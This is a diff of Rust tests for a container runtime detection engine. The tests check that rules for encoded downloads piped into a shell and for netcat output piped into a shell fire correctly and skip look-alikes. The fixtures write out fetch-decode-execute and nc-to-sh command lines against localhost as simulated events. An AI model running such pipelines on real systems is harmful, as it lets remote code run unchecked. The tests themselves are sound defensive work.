@@ -276,3 +276,206 @@ fn a_rule_cannot_redefine_a_built_in_category() {
         "{msg}"
     );
 }
+
+// Pipe neighbours (docs/rules.md "Pipe neighbours"): answered from the process table's pipe
+// index by inode.
+
+use ward_event::FdKind;
+
+const SEC: u64 = 1_000_000_000;
+
+fn rule_ids(f: &[Finding]) -> Vec<&str> {
+    let mut ids: Vec<&str> = f.iter().filter_map(|f| f.source_str("Rule_Id")).collect();
+    ids.sort();
+    ids
+}
+
+/// A shell (pid 500) in the container running `curl ... | base64 -d | sh`: curl 501 writes
+/// pipe 9001, base64 502 reads it and writes pipe 9002, sh 503 reads that. `order` gives the
+/// order of the three execs (pids); `exits` the pids that exit right after their exec.
+fn curl_base64_sh(order: &[u32], exits: &[u32], gap: u64) -> Vec<Event> {
+    let (p1, p2) = (fd(FdKind::Pipe, 9001), fd(FdKind::Pipe, 9002));
+    let log = fd(FdKind::Pipe, 600);
+    let mut ev = vec![in_c(
+        ExecBuilder::new(1, 500, 1, "/bin/bash")
+            .args(&[
+                "bash",
+                "-c",
+                "curl -s http://127.0.0.1:8080/p | base64 -d | sh",
+            ])
+            .stdio(1, log.clone()),
+    )
+    .event()];
+    let mut t = 10;
+    for pid in [501, 502, 503] {
+        ev.push(fork(t, pid, 500));
+        t += 1;
+    }
+    for &pid in order {
+        t += gap;
+        let b = match pid {
+            501 => ExecBuilder::new(t, 501, 500, "/usr/bin/curl")
+                .args(&["curl", "-s", "http://127.0.0.1:8080/p"])
+                .stdio(1, p1.clone()),
+            502 => ExecBuilder::new(t, 502, 500, "/usr/bin/base64")
+                .args(&["base64", "-d"])
+                .stdio(0, p1.clone())
+                .stdio(1, p2.clone()),
+            _ => ExecBuilder::new(t, 503, 500, "/bin/sh")
+                .binary_path("/usr/bin/dash")
+                .args(&["sh"])
+                .stdio(0, p2.clone())
+                .stdio(1, log.clone()),
+        };
+        ev.push(in_c(b).event());
+        if exits.contains(&pid) {
+            t += 1;
+            ev.push(exit(t, pid));
+        }
+    }
+    ev
+}
+
+const BOTH: [&str; 2] = ["PIPED_ENCODED_CODE_EXECUTION", "PIPED_ENCODED_DOWNLOAD"];
+
+#[test]
+fn curl_base64_sh_fires_both_piped_rules_in_any_exec_order() {
+    let orders: [[u32; 3]; 6] = [
+        [501, 502, 503],
+        [501, 503, 502],
+        [502, 501, 503],
+        [502, 503, 501],
+        [503, 501, 502],
+        [503, 502, 501],
+    ];
+    for order in orders {
+        let f = run_rules(shipped(), curl_base64_sh(&order, &[], 1));
+        assert_eq!(rule_ids(&f), BOTH, "exec order {order:?}");
+        for f in &f {
+            assert_eq!(f.count(), 1, "exec order {order:?}: {}", f.category);
+        }
+    }
+    // The evidence names the other end.
+    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[], 1));
+    let dl = f
+        .iter()
+        .find(|f| f.source_str("Rule_Id") == Some("PIPED_ENCODED_DOWNLOAD"))
+        .unwrap();
+    assert!(
+        dl.evidence().contains(&Evidence {
+            field: "stdin_writer.basename".into(),
+            value: "curl".into()
+        }),
+        "{:?}",
+        dl.evidence()
+    );
+    assert_eq!(dl.processes[0].pid, 502);
+}
+
+#[test]
+fn a_neighbour_that_exited_just_before_still_counts_and_a_long_gone_one_does_not() {
+    // curl finished (and base64 too) before the next member of the pipeline exec'd.
+    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[501, 502], 1));
+    assert_eq!(rule_ids(&f), BOTH);
+    // Seconds apart (beyond the grace): pipe inodes are not matched to a process long gone.
+    let f = run_rules(
+        shipped(),
+        curl_base64_sh(&[501, 502, 503], &[501, 502], 3 * SEC),
+    );
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn pipe_look_alikes_stay_quiet() {
+    let (p1, p2) = (fd(FdKind::Pipe, 9101), fd(FdKind::Pipe, 9102));
+    let mut ev = vec![in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event()];
+    // curl | jq, and cat file | base64 -d | tee key.pem.
+    ev.extend([
+        fork(2, 501, 500),
+        fork(3, 502, 500),
+        in_c(ExecBuilder::new(4, 501, 500, "/usr/bin/curl").args(&["curl", "-s", "http://m/t"]))
+            .stdio(1, p1.clone())
+            .event(),
+        in_c(ExecBuilder::new(5, 502, 500, "/usr/bin/jq").args(&["jq", ".token"]))
+            .stdio(0, p1.clone())
+            .event(),
+        fork(6, 503, 500),
+        fork(7, 504, 500),
+        fork(8, 505, 500),
+        in_c(ExecBuilder::new(9, 503, 500, "/usr/bin/cat").args(&["cat", "/run/cert.b64"]))
+            .stdio(1, p2.clone())
+            .event(),
+        in_c(ExecBuilder::new(10, 504, 500, "/usr/bin/base64").args(&["base64", "-d"]))
+            .stdio(0, p2.clone())
+            .stdio(1, fd(FdKind::Pipe, 9103))
+            .event(),
+        in_c(ExecBuilder::new(11, 505, 500, "/usr/bin/tee").args(&["tee", "/tmp/key.pem"]))
+            .stdio(0, fd(FdKind::Pipe, 9103))
+            .event(),
+    ]);
+    let f = run_rules(shipped(), ev);
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn a_pipe_end_in_another_container_or_on_the_host_is_no_neighbour() {
+    // The same inode numbers on both sides, but curl is on the host: no pair.
+    let p1 = fd(FdKind::Pipe, 9201);
+    let ev = vec![
+        ExecBuilder::new(1, 700, 1, "/usr/bin/curl")
+            .args(&["curl", "-s", "http://x/p"])
+            .stdio(1, p1.clone())
+            .event(),
+        in_c(ExecBuilder::new(2, 701, 1, "/usr/bin/base64").args(&["base64", "-d"]))
+            .stdio(0, p1.clone())
+            .event(),
+    ];
+    let f = run_rules(shipped(), ev);
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+}
+
+#[test]
+fn a_forked_subshell_that_did_not_exec_is_no_neighbour() {
+    // `nc HOST PORT | while read l; do ...; done` typed into an interactive bash: the reader
+    // of nc's stdout is a fork of bash that never exec'd. Handing back the exec it inherited
+    // (`bash`, no arguments) would make this `nc | bash`.
+    let p = fd(FdKind::Pipe, 9301);
+    let ev = vec![
+        in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event(),
+        fork(2, 501, 500),
+        fork(3, 502, 500),
+        dup(4, 502, 0, p.clone()),
+        in_c(ExecBuilder::new(5, 501, 500, "/usr/bin/nc").args(&["nc", "127.0.0.1", "9000"]))
+            .stdio(1, p.clone())
+            .event(),
+    ];
+    let f = run_rules(shipped(), ev.clone());
+    assert!(f.is_empty(), "{:?}", rule_ids(&f));
+    // The same with the reader exec'ing a shell of its own: `nc ... | sh` fires.
+    let mut ev = ev;
+    ev.push(
+        in_c(ExecBuilder::new(6, 502, 500, "/bin/sh").args(&["sh"]))
+            .stdio(0, p)
+            .event(),
+    );
+    let f = run_rules(shipped(), ev);
+    assert_eq!(
+        rule_ids(&f),
+        vec!["NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER"]
+    );
+}
+
+#[test]
+fn the_pipe_index_is_kept_only_for_rules_that_ask() {
+    let mut engine = Engine::new(
+        &EngineConfig::default(),
+        &DetectorsConfig::default(),
+        Arc::new(IntelSet::new()),
+        None,
+    );
+    assert!(!engine.table().pipe_index_on());
+    engine.set_rules(Arc::new(own())).unwrap();
+    assert!(!engine.table().pipe_index_on(), "no rule of own() asks");
+    engine.set_rules(shipped()).unwrap();
+    assert!(engine.table().pipe_index_on());
+}
